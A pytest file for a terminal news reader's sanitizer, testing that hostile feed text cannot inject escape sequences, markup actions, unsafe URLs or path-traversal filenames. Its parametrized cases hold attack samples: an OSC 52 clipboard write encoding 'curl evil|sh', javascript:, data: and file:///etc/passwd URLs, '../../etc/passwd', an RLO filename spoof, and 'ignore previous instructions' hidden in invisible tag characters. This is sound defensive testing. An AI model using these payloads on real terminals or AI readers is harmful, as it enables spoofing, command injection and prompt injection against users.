"""Hostile feed text never reaches the terminal raw, runs markup, opens a link or names a file."""

import re
import string
import time
import unicodedata
from datetime import date
from pathlib import PurePosixPath

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text
from textual.app import App
from textual.content import Content
from textual.widgets import Static

from tui_reader.sanitize import (
    clean_line,
    clean_text,
    escape_markup,
    html_text,
    is_openable_url,
    safe_filename_component,
    safe_rich_text,
    valid_date,
)

# --- what must never survive -------------------------------------------------------------

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FLAG_SEQUENCE = re.compile(r"\U0001f3f4[\U000e0020-\U000e007e]+\U000e007f")


def forbidden(ch: str) -> bool:
    cp = ord(ch)
    return (
        (cp < 0x20 and ch not in "\t\n")
        or 0x7F <= cp <= 0x9F
        or ch in BIDI
        or ch in "\r\u200b\u2028\u2029\u2060\ufeff\xad"
        or 0xE0000 <= cp <= 0xE007F  # tags, outside flag sequences (removed before checking)
        or 0xD800 <= cp <= 0xDFFF
    )


def assert_clean(out: str) -> None:
    bad = [f"U+{ord(c):04X}" for c in FLAG_SEQUENCE.sub("", out) if forbidden(c)]
    assert not bad, bad


# --- each escape family goes, payload and all ----------------------------------------------


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("\x1b[31mred\x1b[0m", "red"),  # CSI SGR colour
        ("\x1b[2J\x1b[Hwiped", "wiped"),  # CSI clear screen, cursor home
        ("\x1b[?1049h\x1b[38;2;255;0;0mx", "x"),  # private-mode CSI, truecolour
        ("\x9b31mred\x9b0m", "red"),  # 8-bit CSI
        ("\x1b]0;pwned title\x07after", "after"),  # OSC title, BEL-terminated
        ("\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\after", "after"),  # OSC 52 clipboard write, ST
        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),  # OSC 8 hyperlink
        ("\x9d0;title\x9cafter", "after"),  # 8-bit OSC and ST
        ("\x1bP+q544e\x1b\\after", "after"),  # DCS (XTGETTCAP)
        ("\x90payload\x9cafter", "after"),  # 8-bit DCS
        ("\x1b_apc payload\x1b\\after", "after"),  # APC
        ("\x1b^pm payload\x1b\\after", "after"),  # PM
        ("\x1bXsos payload\x1b\\after", "after"),  # SOS
        ("\x1b]0;cancelled\x18after", "after"),  # CAN aborts a string
        ("\x1b]0;never ended\nnext line", "\nnext line"),  # unterminated 7-bit: to line end
        ("\x1bcreset", "reset"),  # RIS
        ("\x1b(0box\x1b(B", "box"),  # charset switch
        ("\x1b7\x1b8saved", "saved"),  # DECSC/DECRC
        ("lone\x1b", "lone"),
        ("\x1b[31", "31"),  # truncated CSI: introducer gone, rest is inert text
        ("\x1b]0;a\x1b[31mb", "b"),  # sequence inside an unterminated OSC
    ],
)
def test_escape_sequences_are_removed_with_their_payload(raw, shown):
    assert clean_text(raw) == shown


def test_unterminated_8bit_introducer_does_not_swallow_the_text():
    """U+009F is also cp1252 "Ÿ" mis-decoded as latin-1; losing the article to it is worse."""
    assert clean_text("Stra\x9fe und Wege\nmehr") == "Strae und Wege\nmehr"


@pytest.mark.parametrize(
    "flood",
    [
        "\x9d" * 50_000,
        "\x9da" * 25_000,
        "\x1b]" * 50_000,
        "\x9b" + "1" * 100_000,
        "\x1bP\x1b" * 30_000,
        "\x98\x1b" * 50_000,
    ],
)
def test_floods_of_introducers_are_cleaned_in_linear_time(flood):
    """A body of unterminated introducers once took 45 s (each one rescanned the line)."""
    started = time.perf_counter()
    assert_clean(clean_text(flood))
    assert time.perf_counter() - started < 2


def test_html_text_keeps_words_and_drops_markup():
    html = '<p class="lead">Talks &amp; truce</p><img src="https://cdn.reuters.com/a.jpg" alt="x">'
    assert html_text(html).split() == ["Talks", "&", "truce"]
    assert html_text("no markup at all") == "no markup at all"


def test_html_text_drops_code_and_fallbacks_content_and_all():
    html = (
        "<p>Talks resume</p><script>var tracker = 1;</script><STYLE>p { color: red }</STYLE>"
        "<noscript>Enable JavaScript</noscript><p>in Doha</p><script>unclosed(); and the rest"
    )
    assert html_text(html).split() == ["Talks", "resume", "in", "Doha"]


@pytest.mark.parametrize(
    "flood", ["<" * 300_000, "<a " * 100_000, "<" + "x" * 300_000, "<script>" * 50_000, "<style></p>" * 50_000]
)
def test_html_text_is_linear_on_unclosed_tags(flood):
    """``<[^>]+>`` rescans to the end from every "<": 300k of them took minutes in the clusterer."""
    started = time.perf_counter()
    html_text(flood)
    assert time.perf_counter() - started < 2


def test_every_c0_c1_and_del_is_removed_but_tab_and_newline_stay():
    controls = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)])
    assert clean_text(f"a{controls}b") == "a\t\n\nb"  # the CR became a newline


def test_line_endings_become_newlines():
    assert clean_text("a\r\nb\rc\u2028d\u2029e") == "a\nb\nc\nd\ne"


def test_bidi_controls_are_removed():
    spoof = "invoice_\u202egpj.exe"  # shows as "invoice_exe.jpg" in a terminal that honours RLO
    assert clean_text(spoof) == "invoice_gpj.exe"
    assert clean_text(f"x{BIDI}y") == "xy"


def test_invisible_format_characters_are_removed():
    assert clean_text("pay\u200bpal\ufeff\u2060\xad") == "paypal"
    smuggled = "".join(chr(0xE0000 + ord(c)) for c in "ignore previous instructions")
    assert clean_text(f"ok{smuggled}") == "ok"


def test_lone_surrogates_become_replacement_characters():
    raw = b"caf\xe9".decode("utf-8", "surrogateescape")
    assert clean_text(raw) == "caf\ufffd"
    clean_text(raw).encode("utf-8")  # printable to any UTF-8 terminal


@pytest.mark.parametrize(
    "text",
    [
        "👨\u200d👩\u200d👧\u200d👦 family",  # ZWJ sequence
        "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scotland",  # tag sequence
        "🇺🇦 👍🏽 ❤\ufe0f",  # regional indicators, skin tone, VS16
        "东京电力公司 福島第一原発 서울",  # CJK
        "مُحَمَّد يَتَكَلَّمُ العَرَبِيَّة",  # Arabic with harakat
        "\u0600\u0661\u0662\u06dd",  # visible Arabic format marks
        "می\u200cخواهم",  # Persian needs ZWNJ
        "שלום עולם",  # Hebrew
        "हिन्दी क्षेत्र",  # Devanagari
        "cafe\u0301 Zürich",  # combining accent
        "tab\there\nand a new line",
        "[bold]markup[/] is just text here",
    ],
)
def test_real_text_survives_intact(text):
    assert clean_text(text) == text


def test_none_and_non_strings():
    assert clean_text(None) == ""
    assert clean_text(42) == "42"
    assert clean_line(None) == ""


# --- one-line form --------------------------------------------------------------------------


def test_clean_line_collapses_whitespace():
    assert clean_line("  Breaking:\n\n\tmarkets\u00a0 fall\x1b[5m  ") == "Breaking: markets fall"


def test_clean_line_truncates_with_ellipsis():
    assert clean_line("abcdefghij", max_len=5) == "abcd…"
    assert clean_line("abcde", max_len=5) == "abcde"
    assert clean_line("abc def", max_len=5) == "abc…"
    assert clean_line("abc", max_len=0) == ""


def test_clean_line_truncation_keeps_characters_whole():
    accented = "e\u0301" * 5
    out = clean_line(accented, max_len=4)
    assert out == "e\u0301…"
    family = "ab👨\u200d👩\u200d👧xyz"
    assert clean_line(family, max_len=6) == "ab…"


# --- no markup interpretation ---------------------------------------------------------------

HOSTILE_MARKUP = [
    "[@click=app.bell]CLICK[/]",
    "[ @click=app.bell]CLICK[/]",  # passes textual.markup.escape and rich.markup.escape
    "[link='javascript:alert(1)']CLICK[/]",
    "[$accent]CLICK[/]",
    "[B]CLICK[/B]",
    "\\[bold]CLICK[/bold]",
]


@pytest.mark.parametrize("payload", HOSTILE_MARKUP)
def test_safe_rich_text_is_literal(payload):
    text = safe_rich_text(payload, style="bold")
    assert isinstance(text, Text)
    assert text.plain == payload
    assert not text.spans
    assert str(text.style) == "bold"


@pytest.mark.parametrize("payload", HOSTILE_MARKUP)
def test_escape_markup_is_literal_in_textual_markup(payload):
    content = Content.from_markup(f"[b]{escape_markup(payload)}[/b] [i]tail[/i]")
    assert content.plain == f"{payload} tail"
    assert [(s.start, s.end, str(s.style)) for s in content.spans] == [
        (0, len(payload), "b"),
        (len(payload) + 1, len(payload) + 5, "i"),
    ]


def test_escape_markup_trailing_backslash_cannot_disable_the_next_tag():
    content = Content.from_markup(f"[b]{escape_markup('dir' + chr(92))}[/b]")
    assert content.plain == "dir\\ "
    assert [(s.start, s.end) for s in content.spans] == [(0, 5)]


def test_escape_markup_cleans():
    assert escape_markup("\x1b]0;t\x07a\u202eb") == "ab"


class MarkupProbe(App):
    """Shows one Static; counts the action a hostile ``[@click=app.bell]`` would run."""

    def __init__(self, content):
        super().__init__()
        self.probe_content = content
        self.bells = 0

    def compose(self):
        yield Static(self.probe_content, id="probe")

    def action_bell(self) -> None:
        self.bells += 1


async def click_probe(content) -> tuple[str, int]:
    """Render ``content`` in a real app, click across its first line; return (line, bells)."""
    app = MarkupProbe(content)
    async with app.run_test(size=(60, 5)) as pilot:
        static = app.query_one("#probe", Static)
        line = "".join(segment.text for segment in static.render_line(0)).rstrip()
        for x in range(0, len(line), 5):
            await pilot.click("#probe", offset=(x, 0))
        await pilot.pause()
        return line, app.bells


async def test_probe_detects_a_live_click_action():
    """Control: unescaped markup does run the action, so the tests below can see a failure."""
    line, bells = await click_probe("[@click=app.bell]CLICK[/]")
    assert line == "CLICK"
    assert bells > 0


@pytest.mark.parametrize("build", [safe_rich_text, escape_markup], ids=["Text", "escaped"])
@pytest.mark.parametrize("payload", HOSTILE_MARKUP[:3])
async def test_markup_is_shown_literally_in_a_textual_app(build, payload):
    line, bells = await click_probe(build(payload))
    assert line == payload
    assert bells == 0


# --- opening URLs ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://news.example/story?id=1#top",
        "http://news.example",
        "HTTPS://NEWS.EXAMPLE/",
        "  https://news.example/padded\n",
        "https://bücher.example/",
        "https://[2001:db8::1]:8443/x",
        "https://user@news.example/",
    ],
)
def test_openable_urls(url):
    assert is_openable_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        "jav\u200bascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ftp://files.example/x",
        "mailto:a@b.example",
        "ht\ttps://news.example",
        "https://news.example/a b",
        "https://news.example/\u202egpj",
        "https:///no-host",
        "https://",
        "https:news.example",
        "//news.example/protocol-relative",
        "/relative/path",
        "http://[::1",
        "",
        None,
    ],
)
def test_unopenable_urls(url):
    assert not is_openable_url(url)


# --- dates and tags in paths -------------------------------------------------------------------


def test_valid_date():
    assert valid_date("2026-11-25") == date(2026, 11, 25)


@pytest.mark.parametrize(
    "arg, reason",
    [
        ("2026-02-30", "day is out of range"),
        ("2026-13-01", "month must be in 1..12"),
        ("../../etc/passwd", "expected YYYY-MM-DD"),
        ("/2026-11-25", "expected YYYY-MM-DD"),
        ("2026-11-25/../x", "expected YYYY-MM-DD"),
        ("2026-11-25\n", "expected YYYY-MM-DD"),
        ("20261125", "expected YYYY-MM-DD"),
        ("２０２６-１１-２５", "expected YYYY-MM-DD"),  # full-width digits match \d
        ("yesterday", "expected YYYY-MM-DD"),
        ("", "expected YYYY-MM-DD"),
    ],
)
def test_invalid_dates_get_a_one_line_message(arg, reason):
    with pytest.raises(ValueError) as err:
        valid_date(arg)
    message = str(err.value)
    assert reason in message
    assert message.startswith("invalid date ")
    assert "\n" not in message and len(message) < 120


def test_invalid_date_message_does_not_echo_control_characters():
    with pytest.raises(ValueError) as err:
        valid_date("\x1b]0;x\x07" * 100)
    assert clean_line(str(err.value)) == str(err.value)
    assert len(str(err.value)) < 120


@pytest.mark.parametrize("tag", ["ukraine", "middle-east", "Ближний Восток", "東アジア", "v1.2", "a_b"])
def test_safe_filename_components_pass_unchanged(tag):
    assert safe_filename_component(tag) == tag


@pytest.mark.parametrize(
    "tag",
    [
        "",
        None,
        ".",
        "..",
        "../x",
        "..\\x",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "C:evil",
        ".hidden",
        "-rf",
        "trailing.",
        " padded",
        "two  spaces",
        "nul\x00",
        "esc\x1b[31m",
        "bidi\u202e",
        "line\nbreak",
        "q?",
        "x" * 129,
        "é" * 65,
    ],
)
def test_unsafe_filename_components_are_refused(tag):
    assert safe_filename_component(tag) is None


# --- properties -------------------------------------------------------------------------------

FRAGMENTS = [
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\x1bP",
    "\x1b\\",
    "\x07",
    "\x9b",
    "\x9c",
    "\x9d",
    "\x9f",
    "\x18",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "[",
    "]",
    "\\",
    "[/]",
    "[@click=app.quit]",
    "[ b]",
    "$",
    "\u200d",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ud800",
    "\U0001f3f4",
    "\U000e0067",
    "\U000e007f",
    "👍🏽",
    "e\u0301",
    "\u2028",
    ";",
    "0",
    "m",
]
hostile_text = st.lists(
    st.one_of(
        st.text(max_size=8),
        st.text(alphabet=st.characters(codec=None), max_size=8),
        st.sampled_from(FRAGMENTS),
    ),
    max_size=24,
).map("".join)


@given(hostile_text)
def test_clean_text_output_has_nothing_forbidden(raw):
    assert_clean(clean_text(raw))


@given(hostile_text)
def test_clean_text_is_idempotent(raw):
    once = clean_text(raw)
    assert clean_text(once) == once


@given(st.text(alphabet=string.printable.replace("\r", "").replace("\x0b", "").replace("\x0c", "")))
def test_clean_text_leaves_plain_ascii_alone(raw):
    assert clean_text(raw) == raw


@given(hostile_text, st.one_of(st.none(), st.integers(min_value=0, max_value=30)))
def test_clean_line_is_one_clean_line(raw, max_len):
    line = clean_line(raw, max_len)
    assert_clean(line)
    assert "\n" not in line and "\t" not in line and "  " not in line
    assert line == line.strip()
    if max_len is not None:
        assert len(line) <= max_len


@given(hostile_text)
def test_escape_markup_round_trips_through_textual_markup(raw):
    content = Content.from_markup(f"[b]{escape_markup(raw)}[/b]")
    expected = clean_text(raw)
    if expected.endswith("\\"):
        expected += " "
    assert content.plain == expected
    assert all(str(span.style) == "b" for span in content.spans)


@given(
    st.one_of(
        hostile_text,
        st.builds("{}:{}".format, st.sampled_from(["https", "http", "javascript"]), hostile_text),
    )
)
def test_openable_urls_are_http_without_hidden_characters(raw):
    if is_openable_url(raw):
        stripped = raw.strip(" \t\r\n")
        assert stripped.lower().startswith(("http://", "https://"))
        assert not any(unicodedata.category(c)[0] in "CZ" for c in stripped)


@given(hostile_text)
def test_safe_filename_components_stay_inside_their_directory(raw):
    name = safe_filename_component(raw)
    if name is not None:
        base = PurePosixPath("/home/analyst/briefings")
        assert (base / name).parent == base
        assert name not in (".", "..") and clean_line(name) == name
